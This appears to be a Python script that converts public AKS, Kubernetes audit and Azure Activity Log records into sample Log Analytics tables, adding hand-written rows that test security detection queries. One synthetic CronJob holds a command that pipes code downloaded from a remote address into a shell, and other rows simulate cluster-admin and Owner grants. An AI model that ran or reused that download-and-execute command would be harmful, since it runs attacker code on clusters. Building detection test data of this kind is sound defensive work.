#!/usr/bin/env python3
"""Builds the bundled sample tables in examples/data/ from real public logs.

Usage: python3 scripts/make_samples.py [SHARED_DATA_REAL_DIR]
       (default: ../shared/data/real, as seen from the repository root)

Output (JSON lines, one Log Analytics row per line):

  examples/data/AzureDiagnostics/aks-archive.jsonl
      AKS diagnostic-setting records (storage archive / Event Hub form) mapped
      to AzureDiagnostics rows the way Log Analytics stores them
      (properties.log -> log_s, properties.pod -> pod_s, time -> TimeGenerated
      truncated to 100 ns, resource columns from resourceId).
  examples/data/AzureDiagnostics/k8s-audit.jsonl
      raw kube-apiserver audit events (falco test traces, audit2rbac demo log)
      wrapped as kube-audit rows of a cluster named MINIKUBE; the resource
      columns of these rows are made up (the events carry none).
  examples/data/AzureActivity/activity-log.jsonl
      Activity Log records (diagnostic-setting form) mapped to AzureActivity
      rows; OperationName holds the operation id (the records carry no display
      name).
  examples/data/*/*.synthetic.jsonl
      rows written by hand (see SYNTHETIC_* below) so that every published seed
      query has at least one hit and one near miss: the real data has no
      CronJob, no masterclient user and no role assignment.

Deterministic: same inputs, same bytes.
"""
import json
import os
import re
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)
OUT = os.path.join(ROOT, "examples", "data")

dumps = json.JSONEncoder(separators=(",", ":"), ensure_ascii=False).encode

DIAG_COLUMNS = ["TenantId", "TimeGenerated", "ResourceId", "Category", "ResourceGroup",
                "SubscriptionId", "ResourceProvider", "Resource", "ResourceType", "OperationName",
                "log_s", "pod_s", "stream_s", "containerID_s", "SourceSystem", "Type", "_ResourceId"]

TENANT = "00000000-0000-0000-0000-000000000000"


def truncate_ticks(ts):
    """2024-11-15T21:00:00.154534959Z -> 2024-11-15T21:00:00.1545349Z (100 ns)."""
    m = re.match(r"^(.*T\d\d:\d\d:\d\d)(?:\.(\d+))?Z$", ts)
    if not m:
        return ts
    frac = (m.group(2) or "").ljust(7, "0")[:7]
    return "%s.%sZ" % (m.group(1), frac)


def resource_parts(resource_id):
    parts = resource_id.strip("/").split("/")
    d = {}
    for i in range(0, len(parts) - 1, 2):
        d[parts[i].upper()] = parts[i + 1]
    return {
        "SubscriptionId": d.get("SUBSCRIPTIONS", "").lower(),
        "ResourceGroup": d.get("RESOURCEGROUPS", ""),
        "ResourceProvider": d.get("PROVIDERS", ""),
        "ResourceType": parts[-2] if len(parts) >= 2 else "",
        "Resource": parts[-1] if parts else "",
    }


def diag_row(time, resource_id, category, operation, log, pod, stream, container):
    r = resource_parts(resource_id)
    row = {
        "TenantId": TENANT, "TimeGenerated": truncate_ticks(time), "ResourceId": resource_id,
        "Category": category, "ResourceGroup": r["ResourceGroup"], "SubscriptionId": r["SubscriptionId"],
        "ResourceProvider": r["ResourceProvider"], "Resource": r["Resource"],
        "ResourceType": r["ResourceType"], "OperationName": operation, "log_s": log, "pod_s": pod,
        "stream_s": stream, "containerID_s": container, "SourceSystem": "Azure",
        "Type": "AzureDiagnostics", "_ResourceId": resource_id.lower(),
    }
    return {k: row[k] for k in DIAG_COLUMNS}


def aks_records(real):
    rows = []
    for path in ["aks-resource-logs/datadog-azure-log-forwarding-orchestration/aks_logs.PT1H.json",
                 "aks-resource-logs/dynatrace-azure-log-forwarder/containerservice_records.jsonl"]:
        with open(os.path.join(real, path), encoding="utf-8") as f:
            for line in f:
                if not line.strip():
                    continue
                rec = json.loads(line)
                p = rec.get("properties", {})
                rows.append(diag_row(rec.get("time", "2021-01-01T00:00:00Z"), rec["resourceId"], rec["category"],
                                     rec["operationName"], p.get("log", ""), p.get("pod", ""),
                                     p.get("stream", ""), p.get("containerID", "")))
    return rows


MINIKUBE = "/SUBSCRIPTIONS/11111111-2222-3333-4444-555555555555/RESOURCEGROUPS/SAMPLES/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/MINIKUBE"


def audit_events(real):
    rows = []
    files = sorted(os.listdir(os.path.join(real, "k8s-audit/falcosecurity-falco")))
    paths = ["k8s-audit/falcosecurity-falco/" + f for f in files] + ["k8s-audit/liggitt-audit2rbac/demo.log"]
    for path in paths:
        with open(os.path.join(real, path), encoding="utf-8") as f:
            for line in f:
                if not line.strip():
                    continue
                ev = json.loads(line)
                if not isinstance(ev, dict) or ev.get("kind") != "Event":
                    continue  # fal_01_003.json is a fuzz case, not an event
                time = ev.get("requestReceivedTimestamp") or ev.get("stageTimestamp") or ev.get("timestamp")
                rows.append(diag_row(time, MINIKUBE, "kube-audit",
                                     "Microsoft.ContainerService/managedClusters/diagnosticLogs/Read",
                                     dumps(ev) + "\n", "kube-apiserver-minikube", "stdout", ""))
    return rows


def event(verb, user, ips, uri, obj_ref, request_object=None, annotations=None, stage="ResponseComplete", code=201):
    ev = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse",
          "auditID": "5a1e0000-0000-4000-8000-%012d" % event.counter, "stage": stage, "requestURI": uri,
          "verb": verb, "user": {"username": user, "groups": ["system:authenticated"]}}
    event.counter += 1
    if ips is not None:
        ev["sourceIPs"] = ips
    ev["objectRef"] = obj_ref
    ev["responseStatus"] = {"metadata": {}, "code": code}
    if request_object is not None:
        ev["requestObject"] = request_object
    ev["requestReceivedTimestamp"] = "2024-11-04T10:00:%02d.000000Z" % (event.counter % 60)
    ev["stageTimestamp"] = "2024-11-04T10:00:%02d.005000Z" % (event.counter % 60)
    ev["annotations"] = annotations if annotations is not None else {
        "authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""}
    return ev


event.counter = 1

SYN_CLUSTER = "/SUBSCRIPTIONS/3F2B6C1E-9D4A-4C5E-8B7F-1A2B3C4D5E6F/RESOURCEGROUPS/RG-AKS-SYNTHETIC/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/AKS-SYNTHETIC"


def synthetic_diag():
    """Hand-written rows: a hit and a near miss for every seed query."""
    rows = []
    t = ["2024-11-04T10:%02d:00.0000000Z" % i for i in range(60)]
    n = iter(range(60))

    def audit(ev, log=None):
        i = next(n)
        rows.append(diag_row(t[i], SYN_CLUSTER, "kube-audit",
                             "Microsoft.ContainerService/managedClusters/diagnosticLogs/Read",
                             log if log is not None else dumps(ev) + "\n",
                             "kube-apiserver-7d9f8c6b5-synth", "stdout", ""))

    def apiserver(text, category="kube-apiserver"):
        i = next(n)
        rows.append(diag_row(t[i], SYN_CLUSTER, category,
                             "Microsoft.ContainerService/managedClusters/diagnosticLogs/Read",
                             text, "%s-7d9f8c6b5-synth" % category, "stderr", ""))

    # Q1 hits (contains is case-insensitive) and near misses.
    apiserver('I1104 10:00:01.000000      12 httplog.go:132] "HTTP" verb="GET" URI="/api/v1/namespaces/default/pods/nginx-7c5ddbdf54-x2k9q/log" resp=200')
    apiserver('I1104 10:00:02.000000      12 handler.go:153] error resolving path "/API/V1/namespaces/web/Pods/Nginx-Canary": not found')
    apiserver('I1104 10:00:03.000000      12 httplog.go:132] "HTTP" verb="LIST" URI="/api/v1/pods?labelSelector=app%3Dnginx" resp=200')
    apiserver('I1104 10:00:04.000000       1 garbagecollector.go:549] "Deleting object" object="default/pods/nginx-7c5ddbdf54-abcde"',
              category="kube-controller-manager")
    crb = lambda role: {"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
                        "metadata": {"name": "debug-admin"},
                        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
                        "subjects": [{"kind": "User", "name": "eve@contoso.com"}]}
    crb_ref = {"resource": "clusterrolebindings", "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"}
    # Q2 hit: kubectl create clusterrolebinding ... --clusterrole=cluster-admin
    audit(event("create", "bob@contoso.com", ["52.168.10.20"], "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
                crb_ref, crb("cluster-admin")))
    # Q2 hit with requestObject and user double-encoded as JSON strings.
    ev = event("create", "bob@contoso.com", ["52.168.10.21"], "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
               crb_ref, crb("cluster-admin"))
    ev["requestObject"] = dumps(ev["requestObject"])
    ev["user"] = dumps(ev["user"])
    audit(ev)
    # Q2 near misses: another role; cluster-admin but an update.
    audit(event("create", "carol@contoso.com", ["10.224.0.5"], "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
                crb_ref, crb("view")))
    audit(event("update", "aksService", ["10.224.0.6"], "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/cluster-admin",
                crb_ref, crb("cluster-admin"), code=200))
    cron = {"kind": "CronJob", "apiVersion": "batch/v1", "metadata": {"name": "backup-3fa1c", "namespace": "default"},
            "spec": {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": {"spec": {
                "containers": [{"name": "backup", "image": "busybox:1.36",
                                "command": ["/bin/sh", "-c", "wget -qO- http://203.0.113.9/x | sh"]}],
                "restartPolicy": "OnFailure"}}}}}}
    cron_ref = {"resource": "cronjobs", "namespace": "default", "apiGroup": "batch", "apiVersion": "v1"}
    # Q3 hit, and a near miss (patch of a CronJob).
    audit(event("create", "alice@contoso.com", ["52.168.10.22"], "/apis/batch/v1/namespaces/default/cronjobs", cron_ref, cron))
    audit(event("patch", "alice@contoso.com", ["52.168.10.22"], "/apis/batch/v1/namespaces/default/cronjobs/nightly",
                cron_ref, cron, code=200))
    # Q4 hit (az aks get-credentials admin user) and a near miss.
    pods_ref = {"resource": "pods", "namespace": "default", "apiVersion": "v1"}
    audit(event("list", "masterclient", ["52.168.10.23"], "/api/v1/namespaces/default/pods", pods_ref, code=200))
    audit(event("list", "masterclient-readonly", ["52.168.10.24"], "/api/v1/namespaces/default/pods", pods_ref, code=200))
    # Q5 ([0] == "") hits: no sourceIPs key, an empty list, [""]; escaped
    # slashes as the AKS archive writes them. Near miss: a real address.
    audit(event("get", "system:kube-scheduler", None, "/api/v1/namespaces/kube-system/pods/a", pods_ref, code=200))
    audit(event("get", "system:kube-scheduler", [], "/api/v1/namespaces/kube-system/pods/b", pods_ref, code=200))
    audit(event("get", "system:kube-scheduler", [""], "/api/v1/namespaces/kube-system/pods/c", pods_ref, code=200))
    audit(None, log=dumps(event("get", "nodeclient", ["10.224.0.7"], "/api/v1/nodes/aks-1", {"resource": "nodes", "apiVersion": "v1"},
                                code=200)).replace("/", "\\/") + "\n")
    # Q6 (annotation key "") hit, and near misses: key "" but not create;
    # a create whose decision is under the usual key.
    audit(event("create", "alice@contoso.com", ["52.168.10.25"], "/api/v1/namespaces/default/configmaps",
                {"resource": "configmaps", "namespace": "default", "apiVersion": "v1"},
                {"kind": "ConfigMap", "apiVersion": "v1", "metadata": {"name": "cfg"}}, annotations={"": "allow"}))
    audit(event("delete", "alice@contoso.com", ["52.168.10.25"], "/api/v1/namespaces/default/configmaps/cfg",
                {"resource": "configmaps", "namespace": "default", "apiVersion": "v1"}, annotations={"": "allow"}, code=200))
    audit(event("create", "alice@contoso.com", ["52.168.10.26"], "/api/v1/namespaces/default/secrets",
                {"resource": "secrets", "namespace": "default", "apiVersion": "v1"},
                {"kind": "Secret", "apiVersion": "v1", "metadata": {"name": "s"}}, annotations={"": "deny"}))
    # A kube-audit row whose log_s is not JSON at all.
    audit(None, log="W1104 10:00:30.000000       1 audit.go:42] audit backend dropped an event\n")
    return rows


ROLE_DEFS = {
    "owner": "8e3af657-a8ff-443c-a75c-2fe8c4bcb635",
    "contributor": "b24988ac-6180-42a0-ab88-20f7382dd24c",
    "reader": "acdd72a7-3385-48ef-bd42-f606fba81ae7",
}

ACT_COLUMNS = ["TenantId", "SourceSystem", "CallerIpAddress", "CategoryValue", "CorrelationId", "Authorization",
               "Authorization_d", "Claims", "Claims_d", "Level", "OperationNameValue", "Properties", "Properties_d",
               "Caller", "EventDataId", "EventSubmissionTimestamp", "HTTPRequest", "OperationId", "ResourceGroup",
               "ResourceProviderValue", "ActivityStatusValue", "ActivitySubstatusValue", "Hierarchy", "TimeGenerated",
               "SubscriptionId", "OperationName", "ActivityStatus", "ActivitySubstatus", "Category", "ResourceId",
               "ResourceProvider", "Resource", "Type", "_ResourceId"]


def activity_row(**kw):
    row = {c: "" for c in ACT_COLUMNS}
    for c in ("Authorization_d", "Claims_d", "Properties_d"):
        row[c] = None
    row.update({"TenantId": TENANT, "SourceSystem": "Azure", "Type": "AzureActivity"})
    row.update(kw)
    return {k: row[k] for k in ACT_COLUMNS}


def activity_records(real):
    rows = []
    with open(os.path.join(real, "activity-log/dynatrace-azure-log-forwarder/activity_log_records.jsonl"),
              encoding="utf-8") as f:
        for line in f:
            if not line.strip():
                continue
            rec = json.loads(line)
            r = resource_parts(rec["resourceId"])
            ident = rec.get("identity") or {}
            claims = ident.get("claims") or {}
            caller = claims.get("http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn") or claims.get("name") or ""
            rows.append(activity_row(
                CallerIpAddress=rec.get("callerIpAddress", ""), CategoryValue=rec.get("category", ""),
                Category=rec.get("category", ""),
                CorrelationId=rec.get("correlationId", ""),
                Authorization=dumps(ident["authorization"]) if "authorization" in ident else "",
                Authorization_d=ident.get("authorization"),
                Claims=dumps(claims) if claims else "", Claims_d=claims or None,
                Level=rec.get("level", ""), OperationNameValue=rec.get("operationName", ""),
                OperationName=rec.get("operationName", ""),
                Properties=dumps(rec.get("properties", {})), Properties_d=rec.get("properties"),
                Caller=caller, ResourceGroup=r["ResourceGroup"], ResourceProviderValue=r["ResourceProvider"],
                ResourceProvider=r["ResourceProvider"], Resource=r["Resource"],
                ActivityStatusValue=rec.get("resultType", ""), ActivityStatus=rec.get("resultType", ""),
                ActivitySubstatusValue=rec.get("resultSignature", ""),
                TimeGenerated=truncate_ticks(rec["time"]), EventSubmissionTimestamp=truncate_ticks(rec["time"]),
                SubscriptionId=r["SubscriptionId"], ResourceId=rec["resourceId"],
                _ResourceId=rec["resourceId"].lower()))
    return rows


def synthetic_activity():
    rows = []
    sub = "3f2b6c1e-9d4a-4c5e-8b7f-1a2b3c4d5e6f"

    def assign(i, role, caller, status, with_body=True, op_name="Create role assignment", body_caller=True):
        scope = "/subscriptions/%s/resourceGroups/rg-aks-prod-weu" % sub
        ra = "7c9e6679-7425-40de-944b-e07fc1f90a%02d" % i
        rid = scope + "/providers/Microsoft.Authorization/roleAssignments/" + ra
        props = {"eventCategory": "Administrative", "entity": rid, "message": "Microsoft.Authorization/roleAssignments/write",
                 "hierarchy": TENANT + "/" + sub}
        body_props = {"PrincipalId": "0f8fad5b-d9cb-469f-a165-70867728950e", "PrincipalType": "User",
                      "RoleDefinitionId": "/subscriptions/%s/providers/Microsoft.Authorization/roleDefinitions/%s" % (sub, role),
                      "Scope": scope}
        if body_caller:
            body_props["Caller"] = caller
        if with_body:
            props["requestbody"] = dumps({"Id": ra, "Properties": body_props})
        ip = "203.0.113.%d" % (10 + i)
        rows.append(activity_row(
            CallerIpAddress=ip, CategoryValue="Administrative", Category="Administrative",
            CorrelationId="a3bb189e-8bf9-3888-9912-ace4e6543%03d" % i,
            Level="Informational", OperationNameValue="Microsoft.Authorization/roleAssignments/write",
            OperationName=op_name, Properties=dumps(props), Properties_d=props, Caller=caller,
            HTTPRequest=dumps({"clientRequestId": "c0ffee00-0000-4000-8000-0000000000%02d" % i, "clientIpAddress": ip,
                               "method": "PUT"}),
            ResourceGroup="RG-AKS-PROD-WEU", ResourceProviderValue="MICROSOFT.AUTHORIZATION",
            ResourceProvider="Microsoft.Authorization", ActivityStatusValue=status, ActivityStatus=status,
            TimeGenerated="2024-11-04T12:%02d:00.0000000Z" % i, EventSubmissionTimestamp="2024-11-04T12:%02d:00.0000000Z" % i,
            SubscriptionId=sub, ResourceId=rid, _ResourceId=rid.lower(), Resource=ra))

    assign(1, ROLE_DEFS["owner"], "mallory@fabrikam.com", "Start")                  # hit
    assign(2, ROLE_DEFS["contributor"].upper(), "deploy-sp@contoso.onmicrosoft.com", "Start")  # hit (contains folds case)
    assign(3, ROLE_DEFS["owner"], "alice@contoso.com", "Start", body_caller=False)   # hit; Caller comes out empty
    assign(4, ROLE_DEFS["reader"], "bob@contoso.com", "Start")                       # near miss: Reader
    assign(5, ROLE_DEFS["owner"], "bob@contoso.com", "Succeeded", with_body=False)   # near miss: completion event, no body
    assign(6, ROLE_DEFS["owner"], "bob@contoso.com", "Start", op_name="Delete role assignment")  # near miss
    return rows


def write(path, rows):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for r in rows:
            f.write(dumps(r) + "\n")
    print("%5d rows  %s" % (len(rows), os.path.relpath(path, ROOT)))


def main():
    real = sys.argv[1] if len(sys.argv) > 1 else os.path.join(ROOT, "..", "shared", "data", "real")
    write(os.path.join(OUT, "AzureDiagnostics", "aks-archive.jsonl"), aks_records(real))
    write(os.path.join(OUT, "AzureDiagnostics", "k8s-audit.jsonl"), audit_events(real))
    write(os.path.join(OUT, "AzureDiagnostics", "seed-cases.synthetic.jsonl"), synthetic_diag())
    write(os.path.join(OUT, "AzureActivity", "activity-log.jsonl"), activity_records(real))
    write(os.path.join(OUT, "AzureActivity", "role-assignments.synthetic.jsonl"), synthetic_activity())


if __name__ == "__main__":
    main()
